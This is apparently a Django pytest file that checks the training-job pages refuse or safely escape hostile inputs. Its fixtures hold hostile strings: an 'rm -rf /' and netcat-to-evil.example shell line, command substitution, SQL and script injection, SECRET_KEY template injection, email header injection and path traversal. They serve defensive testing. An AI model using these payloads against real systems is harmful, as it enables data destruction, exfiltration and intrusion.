"""Hostile values in every form of the jobs pages: each is refused with a message naming its field,
never a 500, and leaves no job, no run and no queued task behind; the few that are harmless
labels are kept verbatim, shown escaped, and never reach a shell.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import pytest
from django.utils.html import escape

from jobs.backends import local
from jobs.models import JobStatus, PlaygroundRun, TrainingJob
from jobs.notifications import send_job_finished_email
from jobs.tests.conftest import make_job, make_ready_dataset, scratch_base_model
from training_scripts.hyperparameters import HYPERPARAMETERS

pytestmark = pytest.mark.django_db

SHELL = "; rm -rf / && $(id) `reboot` | nc evil.example 4444 > /etc/passwd"
LONG = "9" * 100_000
CONTROL = "tab\there\x1b[31mred\x07bell\u202eevil\u200b"


def launch_data(dataset_, model_, **overrides) -> dict:
    data = {
        "dataset": dataset_.pk,
        "base_model": model_.pk,
        "backend": "local",
        "preset": "custom",
        "method": "full",
        "epochs": "1",
        "max_steps": "12",
        "batch_size": "4",
        "max_seq_length": "64",
        "packing": "on",
        "merge_adapter": "on",
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


@dataclass(frozen=True)
class Bad:
    id: str
    field: str  # the field the message must name
    values: dict = field(default_factory=dict)


def bad(field_name: str, value, id: str = "") -> Bad:
    return Bad(id or f"{field_name}={str(value)[:24]!s}", field_name, {field_name: value})


REFUSED = [
    # Out of range
    bad("epochs", "0"),
    bad("epochs", "-1"),
    bad("epochs", "1001"),
    bad("learning_rate", "2"),
    bad("learning_rate", "0"),
    bad("learning_rate", "1e-400", "learning_rate-underflows-to-zero"),
    bad("batch_size", "0"),
    bad("batch_size", "99999999999999999999999999"),
    bad("max_seq_length", "8"),
    bad("max_seq_length", "131073"),
    bad("max_steps", "-5"),
    bad("max_steps", "1e20"),
    bad("seed", str(2**31)),
    bad("warmup_ratio", "0.95"),
    bad("lora_r", "0"),
    # Wrong types
    bad("batch_size", "1.5"),
    bad("epochs", "abc"),
    bad("epochs", "[1, 2]"),
    bad("epochs", '{"a": 1}'),
    bad("epochs", "true"),
    bad("seed", "0x10"),
    bad("lr_scheduler", "sideways"),
    bad("method", "both"),
    # NaN and infinity, spelled every way
    bad("epochs", "NaN"),
    bad("epochs", "nan"),
    bad("epochs", "Infinity"),
    bad("epochs", "-Infinity"),
    bad("epochs", "inf"),
    bad("learning_rate", "1e309", "learning_rate-overflows-to-infinity"),
    bad("max_grad_norm", "NaN"),
    # Shell metacharacters in values
    bad("batch_size", "4; rm -rf /", "batch_size-shell"),
    bad("batch_size", "$(id)", "batch_size-command-substitution"),
    bad("lr_scheduler", "cosine; rm -rf /", "lr_scheduler-shell"),
    bad("method", "lora && reboot", "method-shell"),
    bad("epochs", "`reboot`", "epochs-backticks"),
    bad("max_steps", "12 --output_dir /etc", "max_steps-extra-argument"),
    # Extremely long strings
    bad("epochs", LONG, "epochs-100k-digits"),
    bad("learning_rate", "0." + "0" * 50_000 + "1", "learning_rate-50k-zeros"),
    bad("name", "n" * 10_000, "name-10k-chars"),
    # Unicode control characters
    bad("name", "a\x00b", "name-nul"),
    bad("name", "Quarterly\r\nBcc: everyone@example.com", "name-header-injection"),
    bad("name", CONTROL, "name-control-characters"),
    bad("epochs", "1\x00", "epochs-nul"),
    bad("epochs", "\u0661", "epochs-arabic-indic-digit"),
    # Choices that are not ours to pick
    bad("base_model", "999999", "base_model-missing"),
    bad("base_model", "scratch:tiny-gpt2", "base_model-by-hub-id-not-pk"),
    bad("base_model", "1 OR 1=1", "base_model-sql"),
    bad("dataset", "-1", "dataset-negative"),
    bad("dataset", "1e3", "dataset-float"),
    bad("backend", "sagemaker", "backend-sagemaker-not-configured"),
    bad("backend", "ssh://evil.example", "backend-unknown"),
    bad("dataset", "", "dataset-missing"),
    # The new-job form's one-time token
    bad("submit_token", "not-a-uuid", "submit_token-not-a-uuid"),
    bad("submit_token", LONG, "submit_token-100k-digits"),
    bad("submit_token", "' OR 1=1 --", "submit_token-sql"),
]


def test_the_corpus_is_large():
    assert len(REFUSED) >= 30


@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.id)
def test_a_hostile_launch_is_refused_with_the_field_named(
    case, owner_client, owner, django_capture_on_commit_callbacks
):
    dataset = make_ready_dataset(owner)
    model = scratch_base_model()

    with django_capture_on_commit_callbacks() as callbacks:
        response = owner_client.post("/jobs/new/", launch_data(dataset, model, **case.values))

    assert response.status_code == 400
    page = response.content.decode()
    assert case.field in response.context["form"].errors, response.context["form"].errors
    assert f'data-error-for="{case.field}"' in page
    assert TrainingJob.objects.count() == 0
    assert callbacks == []
    # Refused values are shown back escaped, never as markup.
    assert "<script" not in page.lower().replace('<script src="/static/', "")

    # The live estimate of the same form answers too, naming the field, never a 500.
    query = launch_data(dataset, model, **case.values)
    estimate = owner_client.get("/jobs/new/estimate/", query, headers={"HX-Request": "true"})
    assert estimate.status_code == 200


def test_someone_elses_dataset_cannot_be_launched_on(owner_client, owner, outsider):
    make_ready_dataset(owner, name="Mine")
    theirs = make_ready_dataset(outsider, name="Not yours")

    response = owner_client.post("/jobs/new/", launch_data(theirs, scratch_base_model()))

    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    assert TrainingJob.objects.count() == 0


@pytest.mark.parametrize(
    "name",
    [SHELL, "<script>alert(1)</script>", "Ünïcödé 训练 🚀", "' OR '1'='1' --", "{{ settings.SECRET_KEY }}"],
    ids=["shell", "script", "unicode", "sql", "template"],
)
def test_a_hostile_but_harmless_name_is_kept_verbatim_shown_escaped_and_never_reaches_a_shell(
    name, owner_client, owner, settings, django_capture_on_commit_callbacks
):
    dataset = make_ready_dataset(owner)
    data = launch_data(dataset, scratch_base_model(), name=name, extra="--output_dir=/etc", hp_evil="$(id)")

    with django_capture_on_commit_callbacks():
        response = owner_client.post("/jobs/new/", data)

    job = TrainingJob.objects.get()
    assert response.status_code == 302
    assert job.name == name
    assert set(job.hyperparameters) <= set(HYPERPARAMETERS)
    page = owner_client.get(f"/jobs/{job.pk}/").content.decode()
    assert escape(name) in page
    assert "<script>alert(1)</script>" not in page
    assert settings.SECRET_KEY not in page
    # The name is not an argument at all; every value is one argv element of its own.
    arguments = local.script_arguments(job.hyperparameters)
    assert all(isinstance(argument, str) for argument in arguments)
    assert not any(name in argument for argument in arguments)
    pairs = dict(zip(arguments[::2], arguments[1::2], strict=True))
    assert {key.removeprefix("--") for key in pairs} == set(job.hyperparameters)
    assert all(json.loads(value) == job.hyperparameters[key[2:]] for key, value in pairs.items())


# --- The other forms of the jobs pages --------------------------------------------------------


PLAYGROUND_REFUSED = [
    ("prompt", {"prompt": ""}),
    ("prompt", {"prompt": "   \n\t "}),
    ("prompt", {"prompt": "x" * 200_000}),
    ("prompt", {"prompt": "hello\x00world"}),
    ("max_new_tokens", {"max_new_tokens": "0"}),
    ("max_new_tokens", {"max_new_tokens": "100000000000000000000"}),
    ("max_new_tokens", {"max_new_tokens": "$(id)"}),
    ("temperature", {"temperature": "NaN"}),
    ("temperature", {"temperature": "Infinity"}),
    ("temperature", {"temperature": "-1"}),
    ("top_p", {"top_p": "0"}),
    ("top_p", {"top_p": "1e309"}),
]


@pytest.mark.parametrize(
    "field_name,values", PLAYGROUND_REFUSED, ids=[f"{f}-{i}" for i, (f, _) in enumerate(PLAYGROUND_REFUSED)]
)
def test_a_hostile_prompt_is_refused_and_queues_nothing(
    field_name, values, owner_client, owner, django_capture_on_commit_callbacks
):
    job = make_job(owner, status=JobStatus.COMPLETED, model_prefix="users/1/jobs/1/model")
    data = {"prompt": "Hello", "max_new_tokens": "8", "temperature": "0.7", "top_p": "0.9", **values}

    with django_capture_on_commit_callbacks() as callbacks:
        response = owner_client.post(f"/jobs/{job.pk}/playground/", data)

    assert response.status_code == 400
    errors = response.context["form"].errors
    assert list(errors) == [field_name], errors
    assert escape(errors[field_name][0]) in response.content.decode()
    assert PlaygroundRun.objects.count() == 0
    assert callbacks == []


@pytest.mark.parametrize(
    "query",
    [
        "?after=-1",
        "?after=99999999999999999999999999",
        "?after=NaN",
        "?after=1e10",
        "?after=%00",
        "?after=" + "9" * 5000,
    ],
)
@pytest.mark.parametrize("part", ["metrics", "logs"])
def test_hostile_cursors_of_the_polled_parts_are_ignored(part, query, owner_client, job):
    response = owner_client.get(f"/jobs/{job.pk}/{part}/{query}")
    assert response.status_code == 200


@pytest.mark.parametrize(
    "query",
    [
        "?status=%27%3B--",
        "?status=active&page=-1",
        "?page=99999999999999999999999",
        "?page=NaN",
        "?status=\x00",
    ],
)
def test_hostile_list_filters_are_ignored(query, owner_client, job):
    response = owner_client.get(f"/jobs/{query}")
    assert response.status_code == 200
    assert job.name in response.content.decode()


@pytest.mark.parametrize(
    "query",
    ["?dataset=-1", "?dataset=abc", "?base_model=1%20OR%201=1", "?preset=../../etc", "?backend=%00"],
)
def test_hostile_new_job_parameters_fall_back_to_the_defaults(query, owner_client, owner):
    make_ready_dataset(owner)
    response = owner_client.get(f"/jobs/new/{query}")
    assert response.status_code == 200


def test_a_name_with_a_line_break_from_elsewhere_still_gets_its_email_on_one_line(owner, mailoutbox):
    # Names from before the form refused control characters, or from a file name on disk.
    job = make_job(owner, name="Quarterly\r\nBcc: everyone@example.com\x1b[2J", status=JobStatus.COMPLETED)

    assert send_job_finished_email(job.pk)

    (email,) = mailoutbox
    assert (
        email.subject == "[LLM Tuner] Your training job “Quarterly Bcc: everyone@example.com [2J” completed"
    )
    assert email.bcc == [] and email.to == [owner.email]


def test_a_dataset_cannot_be_renamed_to_something_with_control_characters(owner_client, owner):
    dataset = make_ready_dataset(owner)

    response = owner_client.post(f"/datasets/{dataset.pk}/rename/", {"name": "two\nlines"})

    assert response.status_code == 400
    assert "control characters" in response.content.decode()
    dataset.refresh_from_db()
    assert dataset.name == "Proverbs"
